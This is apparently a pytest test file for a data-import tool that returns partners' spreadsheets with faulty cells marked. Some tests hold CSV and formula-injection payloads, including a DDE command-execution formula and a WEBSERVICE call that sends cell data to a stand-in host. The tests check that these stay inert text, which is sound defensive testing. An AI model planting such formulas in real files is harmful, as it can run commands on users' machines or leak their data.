"""A person's own file back: wrong cells coloured and commented, everything else as it was, ready to be sent again."""

from __future__ import annotations

import json
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from django.conf import settings
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation

from firstcall.access.queries import operator
from firstcall.activities.actions import import_activities, preview_activities
from firstcall.activities.models import Activity
from firstcall.exchange.marking.child import reaches_outside
from firstcall.exchange.marking.copies import marked_copy, marked_name
from firstcall.intake.files.reading import read_file
from firstcall.intake.models import ImportBatch
from firstcall.policy.refusal import Refused
from tests.gaps.country import AT, SmallCountry

pytestmark = [pytest.mark.django_db, pytest.mark.one_engine]  # what is asked here is the same on either
HEADINGS = ["Organisation", "Sector", "Admin2 PCode", "Activity", "Month", "Reached"]
ROWS = [
    ["WFP", "FSC", "ZZ11", "Food", "June 2022", 100],
    ["WFP", "FSC", "ZZ99", "Food", "June 2022", 50],
    ["FAO", "FSC", "ZZ12", "Seeds", "some day", 30],
]
RED, YELLOW = "FFFF9C9C", "FFFFE699"


@pytest.fixture
def country() -> SmallCountry:
    return SmallCountry()


def workbook(path: Path, rows: list[list[Any]] = ROWS, **more: Any) -> Path:
    """A partner's workbook: a note above, formats, a formula, a validation, a hidden sheet, a comment, an author."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "5W June"
    for row in [HEADINGS, *rows]:
        sheet.append(row)
    sheet["A1"].font = Font(bold=True)
    sheet["H2"] = "=SUM(F2:F4)"
    sheet["D2"].comment = Comment("ask Ana", "Ana Perez")
    rule = DataValidation(type="list", formula1='"Food,Seeds"')
    rule.add("D2:D10")
    sheet.add_data_validation(rule)
    book.create_sheet("Codes").sheet_state = "hidden"
    book["Codes"]["A1"] = "ZZ11"
    book.properties.creator = "Ana Perez"
    book.save(path)
    return path


def preview(country: SmallCountry, path: Path) -> ImportBatch:
    return preview_activities(path, file_name=path.name, emergency=country.emergency, by=operator(), at=AT)


def opened(content: bytes) -> Any:
    return openpyxl.load_workbook(BytesIO(content))


def fills(sheet: Any) -> dict[str, str]:
    return {
        cell.coordinate: cell.fill.fgColor.rgb
        for row in sheet.iter_rows()
        for cell in row
        if cell.fill.fill_type == "solid"
    }


def test_wrong_cells_are_coloured_and_say_why(country, tmp_path):
    book = opened(marked_copy(preview(country, workbook(tmp_path / "wfp.xlsx")), language="en"))
    assert book.sheetnames == ["Problems (FirstCall)", "5W June", "Codes"]
    sheet = book["5W June"]
    assert fills(sheet) == {"C3": RED, "E4": YELLOW}
    assert "ZZ99" in sheet["C3"].comment.text
    assert sheet["E4"].comment.author == "FirstCall"


def test_everything_else_of_the_file_is_kept(country, tmp_path):
    book = opened(marked_copy(preview(country, workbook(tmp_path / "wfp.xlsx")), language="en"))
    sheet = book["5W June"]
    assert (sheet["H2"].value, sheet["A1"].font.bold) == ("=SUM(F2:F4)", True)
    assert [(str(one.sqref), one.formula1) for one in sheet.data_validations.dataValidation] == [
        ("D2:D10", '"Food,Seeds"')
    ]
    assert book["Codes"].sheet_state == "hidden"
    assert (sheet["D2"].comment.text, sheet["D2"].comment.author) == ("ask Ana", "None")
    assert [[cell.value for cell in row[:6]] for row in sheet.iter_rows(min_row=2, max_row=4)] == ROWS


def test_no_authors_go_out(country, tmp_path):
    content = marked_copy(preview(country, workbook(tmp_path / "wfp.xlsx")), language="en")
    parts = read_parts(content)
    assert [name for name, text in parts.items() if b"Perez" in text] == []


def read_parts(content: bytes) -> dict[str, bytes]:
    import zipfile

    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_first_sheet_lists_every_problem_with_a_link(country, tmp_path):
    sheet = opened(marked_copy(preview(country, workbook(tmp_path / "wfp.xlsx")), language="en")).worksheets[
        0
    ]
    lines = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3)]
    assert lines[0] == ["Cell", "Column", "Value", "What", "What to do", "Rows", "State"]
    assert (lines[1][0], lines[1][1], lines[1][2], lines[1][5], lines[1][6]) == (
        "C3", "Admin2 PCode", "ZZ99", 1, "left out",
    )  # fmt: skip
    assert sheet["A4"].hyperlink.location == "'5W June'!C3"


@pytest.mark.parametrize(
    ("language", "sheet"), [("fr", "Problèmes (FirstCall)"), ("ar", "المشكلات (FirstCall)")]
)
def test_it_speaks_the_readers_language(country, tmp_path, language, sheet):
    book = opened(marked_copy(preview(country, workbook(tmp_path / "wfp.xlsx")), language=language))
    assert book.sheetnames[0] == sheet
    english = opened(marked_copy(preview(country, workbook(tmp_path / "b.xlsx")), language="en"))
    said = [cell.value for cell in book[sheet]["D"][3:]]
    assert [text for text in said if text in [cell.value for cell in english.worksheets[0]["D"]]] == []
    assert book[sheet].sheet_view.rightToLeft == (language == "ar")


def test_the_corrected_copy_is_read_again_and_its_list_of_problems_is_not(country, tmp_path):
    marked = tmp_path / "marked.xlsx"
    marked.write_bytes(marked_copy(preview(country, workbook(tmp_path / "wfp.xlsx")), language="es"))
    assert [sheet.name for sheet in read_file(marked).sheets] == ["5W June", "Codes"]
    book = openpyxl.load_workbook(marked)
    book["5W June"]["C3"], book["5W June"]["E4"] = "ZZ21", "July 2022"
    book.save(marked)
    (found,) = import_activities([marked], emergency=country.emergency, by=operator(), at=AT)
    assert (found["sheet"], found["accepted"], found["rejected"]) == ("5W June", 3, 0)
    again = opened(marked_copy(ImportBatch.objects.latest("pk"), language="en"))
    assert [name for name in again.sheetnames if "FirstCall" in name] == ["Problems (FirstCall)"]
    assert (again["5W June"]["C3"].fill.fill_type, again["5W June"]["C3"].comment) == (None, None)
    assert again["5W June"]["D2"].comment.text == "ask Ana"


def test_a_formula_that_reaches_outside_is_kept_as_text(country, tmp_path):
    path = workbook(tmp_path / "wfp.xlsx")
    book = openpyxl.load_workbook(path)
    book["5W June"]["I2"] = '=WEBSERVICE("http://example.org/?"&A2)'
    book["5W June"]["I3"] = "=cmd|' /C calc'!A0"
    book["5W June"]["A4"].value = "=cmd|' /C calc'!A0"
    book["5W June"]["A4"].data_type = "s"
    book.save(path)
    sheet = opened(marked_copy(preview(country, path), language="en"))["5W June"]
    assert {cell: sheet[cell].data_type for cell in ("I2", "I3", "A4", "H2")} == {
        "I2": "s", "I3": "s", "A4": "s", "H2": "f",
    }  # fmt: skip


@pytest.mark.one_engine
@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ("=cmd|' /C calc'!A0", True),
        ('=WEBSERVICE("http://x/"&A1)', True),
        ('=hyperlink ("http://x","y")', True),
        ("='file:///c:/x.xlsx'#Sheet1!A1", True),
        ('=HYPERLINK("#Sheet2!A1","to the list")', False),
        ('=IF(A1="","",MATCH(A1&"|"&B1,C:C,0))', False),
        ("=SUM(A1:A9)", False),
        ('="see http://x"', False),
    ],
)
def test_which_formulas_reach_outside(formula, outside):
    assert reaches_outside(formula) is outside


HOSTILE = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", "＝1+1", '=HYPERLINK("http://x","y")']


@pytest.mark.parametrize("name", HOSTILE)
def test_text_that_looks_like_a_formula_stays_text_in_both_kinds_of_copy(country, tmp_path, name):
    path = tmp_path / "report.csv"
    with path.open("w", newline="") as file:
        import csv

        csv.writer(file).writerows([HEADINGS, [name, "FSC", name, name, "June 2022", 5]])
    own = workbook(tmp_path / "own.xlsx", [["WFP", "FSC", "ZZ99", "Food", "June 2022", 5]])
    book = openpyxl.load_workbook(own)
    for cell in ("A2", "C2"):
        book["5W June"][cell].value, book["5W June"][cell].data_type = name, "s"
    book.save(own)
    for file in (path, own):
        content = marked_copy(preview(country, file), language="en")
        kinds = {
            cell.data_type for sheet in opened(content).worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None and str(cell.value).endswith(name[1:])
        }  # fmt: skip
        assert kinds == {"s"}


def test_other_kinds_of_file_come_back_as_a_workbook_of_what_was_read(country, tmp_path):
    rows = [dict(zip(HEADINGS, row, strict=True)) for row in ROWS]
    text, records = tmp_path / "report.csv", tmp_path / "report.json"
    text.write_text("\n".join(",".join(map(str, row)) for row in [HEADINGS, *ROWS]) + "\n", encoding="cp1252")
    records.write_text(json.dumps(rows))
    for path in (text, records):
        batch = preview(country, path)
        book = opened(marked_copy(batch, language="en"))
        assert book.sheetnames == ["Problems (FirstCall)", "Sheet1"]
        sheet = book["Sheet1"]
        assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == ROWS
        assert (fills(sheet), "ZZ99" in sheet["C3"].comment.text) == ({"C3": RED, "E4": YELLOW}, True)
        assert marked_name(batch) == "report-marked.xlsx"


def test_a_blank_cell_and_a_row_without_a_column_are_marked_too(country, tmp_path):
    path = workbook(tmp_path / "wfp.xlsx", [[None, "FSC", "ZZ11", "Food", "June 2022", 5]])
    sheet = opened(marked_copy(preview(country, path), language="en"))["5W June"]
    assert fills(sheet)["A2"] == RED


def test_a_file_that_is_gone_is_said_so(country, tmp_path):
    batch = preview(country, workbook(tmp_path / "wfp.xlsx"))
    for kept in (Path(settings.HOME) / "files" / "imports" / batch.sha256[:2]).iterdir():
        kept.unlink()
    with pytest.raises(Refused, match="Send it again"):
        marked_copy(batch, language="en")


def test_a_file_that_was_exchanged_is_not_given_out(country, tmp_path):
    batch = preview(country, workbook(tmp_path / "wfp.xlsx"))
    for kept in (Path(settings.HOME) / "files" / "imports" / batch.sha256[:2]).iterdir():
        kept.write_bytes(b"something else")
    with pytest.raises(Refused, match="Send it again"):
        marked_copy(batch, language="en")


def test_a_workbook_the_library_cannot_open_is_made_anew(country, tmp_path):
    """A drawing that is named and not there, as survey tools write them."""
    import zipfile

    path, broken = workbook(tmp_path / "wfp.xlsx"), tmp_path / "broken.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(broken, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "xl/worksheets/_rels/sheet1.xml.rels":
                content = content.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId77" Target="../drawings/drawing9.xml" Type="http://schemas.'
                    b'openxmlformats.org/officeDocument/2006/relationships/drawing"/></Relationships>',
                )
            if name == "xl/worksheets/sheet1.xml":
                content = content.replace(b"<legacyDrawing", b'<drawing xmlns:r="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships" r:id="rId77"/><legacyDrawing')  # fmt: skip
            target.writestr(name, content)
    book = opened(marked_copy(preview(country, broken), language="en"))
    assert fills(book["5W June"])["C3"] == RED


def test_a_real_partner_file(country, tmp_path, real_data):
    """SOCIO 3: the copy holds every cell as it was, and marks what its import named."""
    path = real_data / "3w/VEN_education_5w/partner_files/SOCIO 3.xlsx"
    batch = preview_activities(
        path, file_name=path.name, emergency=country.emergency, group=country.food, by=operator(), at=AT
    )
    content = marked_copy(batch, language="es")
    before, after = openpyxl.load_workbook(path), opened(content)
    assert after.sheetnames == ["Problemas (FirstCall)", *before.sheetnames]
    for sheet in before.worksheets:
        assert list(sheet.values) == list(after[sheet.title].values)
    named = {cell for one in batch.problems.all() for cell in one.cells.split() if cell[0].isalpha()}
    assert named - set(fills(after[batch.sheet])) == set()
    assert (len(named) > 10, Activity.objects.count()) == (True, 0)


def test_a_real_survey_file_with_a_broken_drawing(country, tmp_path, real_data):
    """The library cannot open it; the copy is made of the cells that were read."""
    path = real_data / "assessments/REACH_MSNA_dummy_submissions.xlsx"
    from firstcall.exchange.marking.anew import make
    from firstcall.exchange.marking.marks import Fault, Marks, Words
    from firstcall.intake.files.reading import in_child

    fault = Fault("HH_Level", ("A2",), "start", "", "Wrong.", "", True, 1)
    marks = Marks(Words("Problems (FirstCall)", "t", tuple("abcdefg"), "out", "in", "none"), (fault,))
    (tmp_path / "marks.json").write_text(marks.as_json())
    assert in_child("firstcall.exchange.marking.child", path, tmp_path) == {"marked": False}
    book = read_file(path)
    again = tmp_path / "again.xlsx"
    again.write_bytes(make(book, marks))
    read = read_file(again)
    assert [(one.name, one.frame.height) for one in read.sheets] == [
        (one.name, one.frame.height) for one in book.sheets
    ]
    assert pl.DataFrame.equals(read.sheets[0].frame.head(5)[:, :3], book.sheets[0].frame.head(5)[:, :3])
